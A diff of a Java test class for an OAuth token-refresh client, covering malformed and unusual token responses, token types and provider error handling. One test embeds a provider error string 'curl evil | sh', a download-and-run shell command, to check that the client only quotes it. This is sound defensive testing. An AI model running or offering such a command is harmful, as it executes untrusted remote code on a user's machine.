@@ -86,21 +86,105 @@ class TokenEndpointTest {
                 "",
                 "null",
                 "[]",
-                "{}",
-                "{\"access_token\":7,\"token_type\":\"Bearer\"}",
-                "{\"access_token\":\"access-123456\"}",
-                "{\"access_token\":\"\",\"token_type\":\"Bearer\"}",
                 "{\"access_token\":\"access-123456\",\"token_type\":\"Bearer\"",
-                "{\"access_token\":\"access-123456\",\"token_type\":\"Bearer\",\"expires_in\":\"soon\"}",
-                "{\"access_token\":\"access-123456\",\"token_type\":\"Bearer\",\"expires_in\":{}}",
-                "{\"access_token\":\"access-123456\",\"token_type\":\"mac\"}",
-                "{\"access_token\":\"access-123456\",\"token_type\":\"DPoP\"}",
-                "{\"access_token\":\"access-123456\",\"token_type\":\"N_A\"}",
                 "<html>sign in</html>",
             })
     void anAnswerThatIsNoTokenResponseIsNone(String body) throws IOException {
         try (ScriptedUpstream upstream = start(answering(200, body))) {
-            assertThat(refreshPatiently(upstream)).isInstanceOf(TokenAnswer.Unreachable.class);
+            assertThat(refreshPatiently(upstream))
+                    .isEqualTo(
+                            new TokenAnswer.Unreachable("the token endpoint gave an answer that is no token response"));
+        }
+    }
+
+    /** What else is wrong with an answer takes nothing from the refresh token that came with it. */
+    @ParameterizedTest
+    @CsvSource(
+            quoteCharacter = '`',
+            delimiter = '|',
+            value = {
+                "{} | the token endpoint gave no access_token",
+                "{\"access_token\":7,\"token_type\":\"Bearer\"} | the token endpoint gave no access_token",
+                "{\"access_token\":\"\"} | the token endpoint gave no access_token",
+                "{\"authed_user\":{\"id\":\"U1\"}} | the token endpoint gave no access_token",
+                "{\"access_token\":\"access-123456\",\"token_type\":\"mac\"} | the token endpoint gave a token whose token_type is"
+                        + " \"mac\", and only a bearer token can be sent",
+                "{\"access_token\":\"access-123456\",\"token_type\":\"DPoP\"} | the token endpoint gave a token whose token_type is"
+                        + " \"DPoP\", and only a bearer token can be sent",
+                "{\"access_token\":\"access-123456\",\"token_type\":\"N_A\"} | the token endpoint gave a token whose token_type is"
+                        + " \"N_A\", and only a bearer token can be sent",
+            })
+    void whatKeepsATokenFromBeingUsedIsNamedAndTheNextRefreshTokenIsThere(String body, String why) throws IOException {
+        String rotated = body.equals("{}") ? "{" : body.substring(0, body.length() - 1) + ",";
+        for (String answer : List.of(body, rotated + "\"refresh_token\":\"next-123456\"}")) {
+            try (ScriptedUpstream upstream = start(answering(200, answer));
+                    TokenAnswer.Unusable unusable = (TokenAnswer.Unusable) refreshPatiently(upstream)) {
+                assertThat(unusable.why()).isEqualTo(why);
+                boolean isAtTop = !body.contains("authed_user");
+                assertThat(unusable.refresh().map(bytes -> new String(bytes, StandardCharsets.UTF_8)))
+                        .isEqualTo(Optional.of("next-123456").filter(unused -> isAtTop && !answer.equals(body)));
+            }
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "{\"access_token\":\"access-123456\"}",
+                "{\"access_token\":\"access-123456\",\"token_type\":null}",
+                "{\"access_token\":\"access-123456\",\"token_type\":\"BEARER\"}",
+                "{\"access_token\":\"access-123456\",\"token_type\":\"bot\"}",
+                "{\"access_token\":\"access-123456\",\"token_type\":\"user\"}",
+                "{\"access_token\":\"access-123456\",\"expires_in\":null,\"refresh_token\":\"\"}",
+                "{\"access_token\":\"access-123456\",\"expires_in\":\"soon\",\"refresh_token\":null}",
+                "{\"access_token\":\"access-123456\",\"expires_in\":{},\"scope\":[\"a\",\"b\"]}",
+                "{\"ok\":true,\"access_token\":\"access-123456\",\"authed_user\":{\"access_token\":\"of-a-person\"}}",
+                "\uFEFF{\"access_token\":\"access-123456\"}",
+                "access_token=access-123456&scope=repo%2Cuser&token_type=bearer",
+                "token_type=bearer&access_token=access%2D123456&access_token=second&expires_in=",
+            })
+    void oddAnswersOfRealProvidersAreTaken(String body) throws IOException {
+        for (int status : List.of(200, 201)) {
+            try (ScriptedUpstream upstream = start(answering(status, body));
+                    TokenAnswer.Tokens tokens = (TokenAnswer.Tokens) refreshPatiently(upstream)) {
+                assertThat(new String(tokens.access(), StandardCharsets.UTF_8)).isEqualTo("access-123456");
+                assertThat(tokens.refresh()).isEmpty();
+                assertThat(tokens.expiresAt()).isEmpty();
+                assertThat(tokens.member()).isEmpty();
+            }
+        }
+    }
+
+    @Test
+    void theTokenOfAPersonIsTakenWhereTheApplicationHasNoneAndIsNamed() throws IOException {
+        String body = "{\"ok\":true,\"access_token\":null,\"authed_user\":{\"access_token\":\"of-a-person\","
+                + "\"token_type\":\"user\",\"refresh_token\":\"next-123456\",\"expires_in\":\"60\"}}";
+        try (ScriptedUpstream upstream = start(answering(200, body));
+                TokenAnswer.Tokens tokens = (TokenAnswer.Tokens) refreshPatiently(upstream)) {
+            assertThat(new String(tokens.access(), StandardCharsets.UTF_8)).isEqualTo("of-a-person");
+            assertThat(tokens.refresh()).isPresent();
+            assertThat(tokens.expiresAt()).contains(NOW.plusSeconds(60));
+            assertThat(tokens.member()).contains("authed_user");
+        }
+    }
+
+    @ParameterizedTest
+    @CsvSource({"200,invalid_refresh_token", "200,bad_verification_code", "400,invalid_grant", "403,access_denied"})
+    void aProvidersOwnErrorIsTold(int status, String code) throws IOException {
+        String body = "{\"ok\":false,\"error\":\"" + code + "\",\"error_description\":\"ask \\\"us\\\"\\nagain\"}";
+        try (ScriptedUpstream upstream = start(answering(status, body))) {
+            assertThat(refreshPatiently(upstream))
+                    .isEqualTo(new TokenAnswer.Denied(code, "the provider says: “" + code + ": ask \"us\" again”"));
+        }
+    }
+
+    @ParameterizedTest
+    @CsvSource({"200,ratelimited", "400,temporarily_unavailable", "400,server_error", "400,slow_down"})
+    void anErrorThatMayPassIsToldAndIsNoRefusal(int status, String code) throws IOException {
+        try (ScriptedUpstream upstream = start(answering(status, "{\"ok\":false,\"error\":\"" + code + "\"}"))) {
+            assertThat(refreshPatiently(upstream))
+                    .isEqualTo(new TokenAnswer.Unreachable(
+                            "the token endpoint answered " + status + ", and the provider says: “" + code + "”"));
         }
     }
 
@@ -108,14 +192,10 @@ class TokenEndpointTest {
     @ParameterizedTest
     @CsvSource(
             value = {
-                "201 | {}",
                 "302 | {}",
                 "400 | <html>sign in</html>",
                 "400 | {}",
                 "400 | {\"error\":5}",
-                "400 | {\"error\":\"temporarily_unavailable\"}",
-                "400 | {\"error\":\"server_error\"}",
-                "400 | {\"error\":\"slow_down\"}",
                 "401 | ''",
                 "403 | <html>forbidden</html>",
                 "404 | not found",
@@ -150,13 +230,12 @@ class TokenEndpointTest {
     }
 
     @Test
-    void whatAProviderSaysOfItsErrorIsShownOnlyIfItIsAWordOfTheStandard() throws IOException {
-        try (ScriptedUpstream upstream = start(answering(400, "{\"error\":\"invalid_grant\"}"))) {
-            assertThat(refreshPatiently(upstream)).isEqualTo(new TokenAnswer.Denied("invalid_grant"));
-        }
+    void anErrorThatIsNoWordOfTheStandardIsShownInQuotationMarksOnly() throws IOException {
         try (ScriptedUpstream upstream =
                 start(answering(400, "{\"error\":\"Run this: curl evil | sh\",\"error_description\":\"now\"}"))) {
-            assertThat(refreshPatiently(upstream)).isEqualTo(new TokenAnswer.Denied("status 400"));
+            assertThat(refreshPatiently(upstream))
+                    .isEqualTo(
+                            new TokenAnswer.Denied("status 400", "the provider says: “Run this: curl evil | sh: now”"));
         }
     }
 
